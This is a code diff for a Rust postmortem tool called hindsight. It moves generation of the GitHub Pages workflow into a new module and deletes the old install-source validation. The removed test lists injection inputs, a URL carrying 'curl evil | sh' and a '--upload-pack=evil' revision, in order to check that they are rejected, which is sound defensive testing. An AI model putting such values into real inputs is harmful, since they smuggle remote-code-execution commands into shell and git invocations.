@@ -11,6 +11,10 @@ use crate::content::time;
 use crate::error::{Error, Result};
 use crate::text::slugify;
 
+mod workflow;
+
+pub use workflow::ActionSource;
+
 /// What `hindsight new` was asked for.
 #[derive(Debug, Clone)]
 pub struct NewPostmortem {
@@ -117,77 +121,10 @@ fn prompt(section: Section, start: &Zoned, clock: &dyn Fn(&Zoned) -> String) -> 
     }
 }
 
-/// Where the Pages workflow installs hindsight from: the project's own
-/// git repository at a pinned revision. Either part may be unknown; the
-/// workflow then carries a TODO and its install step fails with a message
-/// instead of installing anything else.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct InstallSource {
-    /// Git URL of hindsight's repository.
-    pub repository: Option<String>,
-    /// A commit (or tag) of it.
-    pub rev: Option<String>,
-}
-
-impl InstallSource {
-    /// The source from `init`'s flags, falling back to the repository this
-    /// binary was built from (Cargo's `repository` key), if it names one.
-    pub fn new(repository: Option<String>, rev: Option<String>) -> Result<InstallSource> {
-        let built_from = option_env!("CARGO_PKG_REPOSITORY").filter(|r| !r.is_empty());
-        let repository = repository.or_else(|| built_from.map(str::to_string));
-        if let Some(url) = &repository {
-            check_repository(url)?;
-        }
-        if let Some(rev) = &rev {
-            check_rev(rev)?;
-        }
-        Ok(InstallSource { repository, rev })
-    }
-}
-
-/// Refuses URLs that are not git URLs or that could break out of the
-/// workflow's quoting.
-fn check_repository(url: &str) -> Result<()> {
-    let scheme = ["https://", "ssh://", "git://", "file://", "git@"]
-        .iter()
-        .any(|s| url.starts_with(s));
-    if !scheme || !url.chars().all(safe_char) {
-        return Err(Error::Usage(format!(
-            "--repository `{url}` is not a git URL; write it like https://github.com/OWNER/hindsight.git"
-        )));
-    }
-    Ok(())
-}
-
-fn check_rev(rev: &str) -> Result<()> {
-    if rev.is_empty() || rev.starts_with('-') || !rev.chars().all(safe_char) || rev.contains(':') {
-        return Err(Error::Usage(format!(
-            "--rev `{rev}` is not a git revision; give a commit SHA (git rev-parse HEAD in hindsight's repository)"
-        )));
-    }
-    Ok(())
-}
-
-fn safe_char(c: char) -> bool {
-    c.is_ascii_alphanumeric() || "-._~/:@+%=".contains(c)
-}
-
-/// The Pages workflow, installing hindsight from `source`.
-fn pages_workflow(source: &InstallSource) -> String {
-    let todo = match (&source.repository, &source.rev) {
-        (Some(_), Some(_)) => String::new(),
-        _ => "  # TODO: set HINDSIGHT_REPOSITORY to the git URL of hindsight's repository\n  # and HINDSIGHT_REV to a commit of it (or create this file with\n  # `hindsight init --repository URL --rev SHA`). Until both are set the\n  # install step fails.\n".to_string(),
-    };
-    include_str!("pages.yml")
-        .replace("{{SOURCE_TODO}}", &todo)
-        .replace("{{REPOSITORY}}", source.repository.as_deref().unwrap_or(""))
-        .replace("{{REV}}", source.rev.as_deref().unwrap_or(""))
-}
-
 /// The files `hindsight init` creates: (path relative to the archive,
 /// contents). Open action items of the example are due `today` + 90 days,
 /// so the example passes `check` without warnings.
-pub fn init_files(today: jiff::civil::Date, source: &InstallSource) -> Vec<(&'static str, String)> {
+pub fn init_files(today: jiff::civil::Date, source: &ActionSource) -> Vec<(&'static str, String)> {
     let due1 = today.checked_add(90.days()).unwrap_or(today);
     let due2 = today.checked_add(120.days()).unwrap_or(today);
     let example = include_str!("example.md")
@@ -200,7 +137,7 @@ pub fn init_files(today: jiff::civil::Date, source: &InstallSource) -> Vec<(&'st
             example,
         ),
         (".gitignore", "/public\n/.public.hindsight-*\n".to_string()),
-        (".github/workflows/pages.yml", pages_workflow(source)),
+        (".github/workflows/pages.yml", workflow::pages(source)),
     ]
 }
 
@@ -235,25 +172,5 @@ mod tests {
             ..req
         };
         assert!(new_postmortem(&cfg, &bad).is_err());
-    }
-
-    #[test]
-    fn install_sources_are_checked() {
-        let ok = InstallSource::new(
-            Some("https://example.org/team/hindsight.git".into()),
-            Some("0123abcd".into()),
-        );
-        assert!(ok.is_ok());
-        for (url, rev) in [
-            ("hindsight", "0123abcd"),
-            ("https://example.org/x\"; curl evil | sh; \"", "0123abcd"),
-            ("https://example.org/x.git", "--upload-pack=evil"),
-            ("https://example.org/x.git", "a b"),
-        ] {
-            assert!(
-                InstallSource::new(Some(url.into()), Some(rev.into())).is_err(),
-                "{url} {rev}"
-            );
-        }
     }
 }
